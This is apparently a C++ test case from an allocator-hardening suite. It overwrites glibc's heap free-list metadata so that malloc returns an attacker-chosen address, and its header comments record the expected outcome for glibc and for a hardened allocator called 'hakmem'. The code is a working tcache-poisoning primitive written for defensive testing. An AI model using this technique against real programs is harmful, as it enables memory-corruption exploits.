// attack: write downwards from a block over everything up to the start of the heap, filling glibc's
// attack: free lists with a chosen address
// fault: metadata-write
// cases: 24 200
// glibc: * succeeds
// hakmem: fast,hardened * survives or segv@at-call
// hakmem: * * corrupt-header|write-after-free|overflow@reuse or survives or segv@at-call
#include "attack.h"

namespace {
alignas(16) char target[512];
}

int main(int argc, char** argv) {
  const size_t size_bytes = attack::size_argument(argc, argv);
  char* block = attack::take(size_bytes);
  char* heap = attack::heap_start(block);
  attack::begin_misuse();
  // Counts of one in every list, then the chosen address at its head.
  for (ptrdiff_t i = 16; i + 2 <= 16 + 128; i += 2) attack::poke<uint16_t>(heap, i, 1);
  for (ptrdiff_t i = 16 + 128; i + 8 <= 656; i += 8) attack::poke<char*>(heap, i, target);
  attack::end_misuse();
  attack::judge(attack::take(size_bytes) == target, "malloc returned a chosen address");
}
